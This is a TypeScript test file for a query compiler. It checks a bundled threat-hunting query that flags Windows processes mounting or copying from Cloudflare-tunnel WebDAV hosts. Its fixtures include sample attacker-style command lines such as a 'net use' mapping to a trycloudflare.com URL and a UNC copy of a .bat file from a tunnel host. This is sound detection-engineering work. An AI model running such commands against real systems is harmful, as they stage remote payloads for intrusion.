import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { compileOk } from './testSupport';

/** The bundled hunt's query, read from the document (the fenced ```xql block). */
function bundledQuery(): string {
  const markdown = readFileSync(new URL('../../public/hunts/cloudflare-tunnel-webdav.md', import.meta.url), 'utf8');
  const match = /```xql\r?\n([\s\S]*?)```/.exec(markdown);
  if (!match) throw new Error('no xql block in the bundled hunt');
  return match[1];
}

const matchingRow = {
  _time: 1751292131000,
  event_type: 'PROCESS',
  event_sub_type: 'PROCESS_START',
  agent_os_type: 'AGENT_OS_WINDOWS',
  agent_hostname: 'WS-01',
  action_process_image_name: 'CMD.EXE',
  action_process_image_command_line: 'cmd.exe /c net use Z: https://a-b.trycloudflare.com/dav',
};

describe('the bundled Cloudflare/WebDAV hunt', () => {
  const plan = compileOk(bundledQuery());

  it('compiles with six top-level clauses', () => {
    expect(plan.clauses.map((clause) => clause.fields)).toEqual([
      ['event_type'],
      ['event_sub_type'],
      ['agent_os_type'],
      ['action_process_image_command_line'],
      ['action_process_image_command_line'],
      ['action_process_image_name'],
    ]);
    expect(plan.clauses[0].text).toBe('event_type = ENUM.PROCESS');
    expect(plan.stages.map((stage) => stage.kind)).toEqual(['config', 'dataset', 'filter', 'fields', 'sort']);
    expect(plan.sort).toEqual([{ field: '_time', direction: 'desc' }]);
    expect(plan.caseSensitive).toBe(false);
    expect(plan.outputFields?.[0]).toBe('_time');
  });

  it('notes exactly the "\\\\\\\\" literal', () => {
    expect(plan.literalNotes).toHaveLength(1);
    const [note] = plan.literalNotes;
    expect(note.source).toBe('"\\\\\\\\"');
    expect(note.xql).toBe('\\\\\\\\');
    expect(note.backslash).toBe('\\\\');
    expect(note.pos.line).toBe(17);
    expect(note.message).toMatch(/4 backslashes/);
  });

  it('derives sound prefilter literals, dropping the group with backslashes', () => {
    const bound = plan.bind(new Set(plan.sourceFields));
    expect(bound.requiredLiterals).toEqual([
      ['cloudflare', 'trycloudflare.com'],
      ['cmd.exe', 'powershell.exe', 'wscript.exe', 'cscript.exe'],
    ]);
  });

  it('matches a Cloudflare WebDAV command line and rejects others', () => {
    const bound = plan.bind(new Set([...plan.sourceFields, '_vendor']));
    expect(bound.evaluate(matchingRow)).toBe(matchingRow);
    expect(bound.evaluate({ ...matchingRow, action_process_image_name: 'explorer.exe' })).toBe(null);
    expect(bound.evaluate({ ...matchingRow, event_sub_type: 'PROCESS_END' })).toBe(null);
    // Rows are normalised, but numeric codes still mean PROCESS / PROCESS_START.
    expect(bound.evaluate({ ...matchingRow, event_type: 1 })).not.toBe(null);
    expect(bound.outputFields).toEqual([
      '_time', 'agent_hostname', 'actor_effective_username', 'action_process_image_name', 'action_process_image_path',
      'action_process_image_command_line', 'event_id', 'agent_id', '_product', '_vendor',
    ]);
  });

  it('finds a UNC path only under the backslash reading', () => {
    const xqlPlan = plan.bind(new Set(plan.sourceFields));
    const backslashPlan = compileOk(bundledQuery(), { escapes: 'backslash' }).bind(new Set(plan.sourceFields));
    const unc = { ...matchingRow, action_process_image_command_line: 'cmd /c copy \\\\x.trycloudflare.com@SSL\\a.bat' };
    expect(xqlPlan.evaluate(unc)).toBe(null);
    expect(backslashPlan.evaluate(unc)).not.toBe(null);
  });

  it('explains which literal matched where', () => {
    const bound = plan.bind(new Set(plan.sourceFields));
    const explanation = bound.explain(matchingRow);
    expect(explanation.clauses).toHaveLength(6);
    expect(explanation.clauses.every((clause) => clause.passed)).toBe(true);
    const cloudflare = explanation.clauses[3];
    expect(cloudflare.children.map((child) => child.passed)).toEqual([true, true]);
    const line = matchingRow.action_process_image_command_line;
    const spans = cloudflare.children[1].matches;
    expect(spans).toHaveLength(1);
    expect(line.slice(spans[0].start, spans[0].end)).toBe('trycloudflare.com');
    expect(explanation.clauses[5].children[0].matches).toEqual([
      { field: 'action_process_image_name', start: 0, end: 7, literal: 'cmd.exe' },
    ]);
  });
});
